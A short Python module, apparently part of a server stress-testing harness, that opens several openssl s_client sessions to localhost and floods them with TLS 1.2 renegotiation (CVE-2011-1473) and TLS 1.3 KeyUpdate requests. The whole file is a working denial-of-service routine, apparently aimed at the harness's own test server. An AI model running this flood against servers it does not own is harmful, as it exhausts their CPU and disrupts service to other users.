"""Clients that request new keys repeatedly: renegotiation in TLS 1.2 (CVE-2011-1473),
KeyUpdate in TLS 1.3."""

import asyncio

from attack import Attack
from server_configurations import TLS

ATTACK = Attack()
CLIENTS = [("-tls1_2", b"R\n"), ("-tls1_3", b"K\n")] * 4


async def run(target):
    sent = 0

    async def ask_for_keys(number):
        nonlocal sent
        version, command = CLIENTS[number]
        process = await asyncio.create_subprocess_exec(
            "openssl", "s_client", version, "-quiet", "-no_ign_eof", "-connect", f"127.0.0.1:{TLS}",
            stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.DEVNULL,
            stderr=asyncio.subprocess.DEVNULL)
        try:
            # It takes one command from each read.
            while target.left() > 0 and process.returncode is None:
                process.stdin.write(command)
                await process.stdin.drain()
                sent += 1
                await asyncio.sleep(0.001)
        finally:
            if process.returncode is None:
                process.kill()
            await process.wait()

    times = await target.repeat(len(CLIENTS), ask_for_keys)
    return f"{sent} asked for over {times} connections"
